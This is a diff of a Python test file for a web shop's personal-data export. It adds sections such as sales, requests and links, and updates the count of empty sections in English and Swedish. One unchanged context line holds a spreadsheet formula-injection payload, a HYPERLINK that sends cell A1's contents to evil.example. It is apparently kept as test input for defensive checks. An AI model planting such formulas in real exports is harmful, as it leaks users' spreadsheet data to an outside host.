@@ -47,7 +47,19 @@ LATER = datetime(2026, 7, 1, 22, 30, tzinfo=UTC)
 SHOP = Actor("api", "Bobs webbshop")
 LONG = "Å" * (LONGEST_CELL + 10)
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"Click")'
-PARTS = ("cover", "personal_data", "purposes", "preferences", "form_answers", "history", "letters", "looks")
+PARTS = (
+    "cover",
+    "personal_data",
+    "purposes",
+    "preferences",
+    "sales",
+    "form_answers",
+    "history",
+    "letters",
+    "requests",
+    "looks",
+    "links",
+)
 
 
 def live(person: Person, other: Person) -> dict[str, str]:
@@ -325,8 +337,15 @@ def test_parts_without_anything_are_there_and_say_so(story: Story, language: str
     copy = story.dan[language]
     cover = [row["value"] for row in rows(copy, "cover")]
 
-    assert [key for key in PARTS if not copy.section(key).rows] == ["form_answers", "letters", "looks"]
-    assert cover.count({"en": "0 rows", "sv": "0 rader"}[language]) == 3
+    assert [key for key in PARTS if not copy.section(key).rows] == [
+        "sales",
+        "form_answers",
+        "letters",
+        "requests",
+        "looks",
+        "links",
+    ]
+    assert cover.count({"en": "0 rows", "sv": "0 rader"}[language]) == 6
     assert {row["status"] for row in rows(copy, "purposes")} == {
         {"en": "Nothing recorded", "sv": "Inget registrerat"}[language]
     }
